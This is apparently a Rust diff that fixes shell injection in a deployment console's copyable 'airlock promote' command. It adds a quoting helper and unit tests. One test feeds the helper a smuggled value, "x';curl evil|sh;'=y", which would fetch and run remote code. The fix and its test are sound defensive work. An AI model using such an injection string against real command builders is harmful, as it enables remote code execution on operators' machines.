@@ -143,6 +143,16 @@ pub async fn rollback_plan(
     Ok(render(StatusCode::OK, &page))
 }
 
+/// `text` as one shell word, quoted unless it is plainly safe: the page offers the command for
+/// copying, and its map rules come from the query string.
+fn shell_word(text: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "/._:=@%+-,".contains(c);
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_string();
+    }
+    format!("'{}'", text.replace('\'', "'\\''"))
+}
+
 #[derive(Deserialize)]
 pub struct PromoteQuery {
     from: String,
@@ -169,11 +179,10 @@ pub async fn promotion_plan(
         .collect::<Result<Vec<_>, _>>()
         .map_err(Error::Invalid)?;
     let source = state
-        .admin_access()
+        .console_sessions()
         .environment(
-            zone.caller(),
-            &zone.environment.project,
-            &query.from,
+            &zone.operator.session,
+            (&zone.environment.project, &query.from),
             zone.now,
         )
         .await?;
@@ -184,7 +193,7 @@ pub async fn promotion_plan(
     let (from, into) = (source.slug(), zone.environment.slug());
     let map_flags: String = maps
         .iter()
-        .map(|map| format!(" --map '{}={}'", map.from, map.to))
+        .map(|map| format!(" --map {}", shell_word(&format!("{}={}", map.from, map.to))))
         .collect();
     let page = plan_page(
         chrome,
@@ -194,4 +203,23 @@ pub async fn promotion_plan(
         format!("airlock promote {from} {into}{map_flags} --apply"),
     );
     Ok(render(StatusCode::OK, &page))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_word;
+
+    #[test]
+    fn map_rules_are_one_shell_word_each() {
+        assert_eq!(
+            shell_word("http://localhost:3000=https://app.acme.com"),
+            "http://localhost:3000=https://app.acme.com"
+        );
+        assert_eq!(shell_word("a b=c"), "'a b=c'");
+        assert_eq!(
+            shell_word("x';curl evil|sh;'=y"),
+            "'x'\\'';curl evil|sh;'\\''=y'"
+        );
+        assert_eq!(shell_word(""), "''");
+    }
 }
